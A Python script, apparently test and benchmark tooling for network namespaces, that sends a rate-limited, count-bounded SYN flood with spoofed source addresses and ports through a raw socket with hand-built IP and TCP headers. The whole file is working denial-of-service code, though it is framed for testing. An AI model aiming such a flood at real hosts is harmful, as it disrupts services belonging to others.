#!/usr/bin/python3
"""A bounded SYN flood for tests and benchmarks: raw TCP SYNs with spoofed source addresses and
ports, sent from inside a test namespace through its own interface (an AF_INET raw socket with
IP_HDRINCL: the kernel routes and resolves the destination, the IP header is ours).

  syn-flood.py --dst 10.0.0.1 --dport 5001 --src 10.0.0.128/25 [--exclude 10.0.0.129,...]
               --count 8000 --rate 2000 [--seed 1]

--src: a CIDR (each SYN from a random address of it, network and broadcast address excluded) or
one address. --count bounds the flood: at most that many SYNs are sent, at --rate per second
(paced in 5 ms slices), then it exits. SIGTERM/SIGINT end it early. It prints one JSON line when it
starts ({"started": true}) and one when it ends ({"sent": N, "seconds": S, "stopped": bool}).
Only ever point it at hosts in namespaces the caller created.
"""
import argparse
import errno
import ipaddress
import json
import random
import signal
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff


def syn(src: bytes, dst: bytes, sport: int, dport: int, isn: int, tsval: int) -> bytes:
    # Options as Linux sends them: MSS 1460, SACK permitted, timestamps, NOP, window scale 7.
    opts = struct.pack('!BBH', 2, 4, 1460) + struct.pack('!BB', 4, 2) + struct.pack('!BBII', 8, 10, tsval, 0) + struct.pack('!BBBB', 1, 3, 3, 7)
    doff = (20 + len(opts)) // 4
    tcp = struct.pack('!HHIIBBHHH', sport, dport, isn, 0, doff << 4, 0x02, 64240, 0, 0) + opts
    pseudo = src + dst + struct.pack('!BBH', 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    # IP: total length and checksum are filled in by the kernel for IP_HDRINCL sockets; DF set, TTL 64.
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0x4000, 64, socket.IPPROTO_TCP, 0, src, dst)
    return ip + tcp


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split('\n')[0])
    ap.add_argument('--dst', required=True)
    ap.add_argument('--dport', type=int, required=True)
    ap.add_argument('--src', required=True, help='CIDR or one address')
    ap.add_argument('--exclude', default='', help='comma-separated addresses never used as a source')
    ap.add_argument('--count', type=int, required=True)
    ap.add_argument('--rate', type=float, required=True, help='SYNs per second')
    ap.add_argument('--seed', type=int, default=None)
    a = ap.parse_args()
    if a.count <= 0 or a.rate <= 0:
        ap.error('--count and --rate must be positive')
    rnd = random.Random(a.seed)
    net = ipaddress.ip_network(a.src, strict=False)
    excluded = {ipaddress.ip_address(x.strip()) for x in a.exclude.split(',') if x.strip()}
    hosts = [h for h in (net.hosts() if net.num_addresses > 1 else [net.network_address]) if h not in excluded]
    if not hosts:
        ap.error('no source address left')
    srcs = [h.packed for h in hosts]
    dst = ipaddress.ip_address(a.dst).packed

    stop = False

    def on_signal(_sig, _frame):
        nonlocal stop
        stop = True
    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)

    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    print(json.dumps({'started': True, 'sources': len(srcs)}), flush=True)
    sent = 0
    t0 = time.monotonic()
    while sent < a.count and not stop:
        due = min(a.count, int((time.monotonic() - t0) * a.rate) + 1)
        while sent < due and not stop:
            pkt = syn(rnd.choice(srcs), dst, rnd.randint(1024, 65535), a.dport, rnd.getrandbits(32), rnd.getrandbits(32))
            try:
                s.sendto(pkt, (a.dst, 0))
            except OSError as e:
                # The interface queue is full: that SYN is tried again a moment later.
                if e.errno not in (errno.ENOBUFS, errno.EAGAIN):
                    raise
                time.sleep(0.001)
                continue
            sent += 1
        time.sleep(0.005)
    print(json.dumps({'sent': sent, 'seconds': round(time.monotonic() - t0, 3), 'stopped': stop}), flush=True)
    return 0


if __name__ == '__main__':
    sys.exit(main())
